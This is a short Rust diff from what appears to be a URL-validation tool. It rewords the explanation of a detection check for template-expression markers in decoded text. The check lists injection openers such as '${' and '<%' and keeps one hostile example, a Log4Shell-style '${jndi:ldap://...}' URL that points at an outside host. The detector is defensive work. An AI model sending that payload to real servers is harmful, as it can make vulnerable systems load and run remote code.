@@ -14,12 +14,11 @@ pub static CHECK: Check = Check {
     need: Need::Payload,
     source: "RFC 3986 §7.3; Claroty and Snyk, URL confusion (Log4j)",
     title: "Template expression",
-    explanation: "Decoded, the text contains a mark that opens an expression in a template language: “${”, “#{”, \
-            “%{”, “*{”, “{{”, “{%”, “{$”, “<%”, “<#”, “<?=”, “<?php” or “#set(”, or “@{” or “~{” followed by an \
-            expression. A template engine evaluates what follows, in a page or in a line of a log; that is how \
-            “${jndi:” made servers run code from elsewhere. It may also be a placeholder that was never \
-            filled in.",
-    verify: "Decode the text, and look for “{” after “$”, “#”, “%” or another brace.",
+    explanation: "Decoded, the text contains a mark that opens an expression in a template language: “${”, “#{”, “%{”, \
+        “*{”, “{{”, “{%”, “{$”, “<%”, “<#”, “<?=”, “<?php” or “#set(”, or “@{” or “~{” followed by an expression. A \
+        template engine evaluates what follows, in a page or in a line of a log. In this way “${jndi:” made servers \
+        run code from elsewhere. It may also be a placeholder that was never filled in.",
+    verify: "Decode the text, and look for one of the marks above.",
     traits: &[],
     hostile: &[
         Example::of("http://example.com/?x=${jndi:ldap://example.net/a}"),
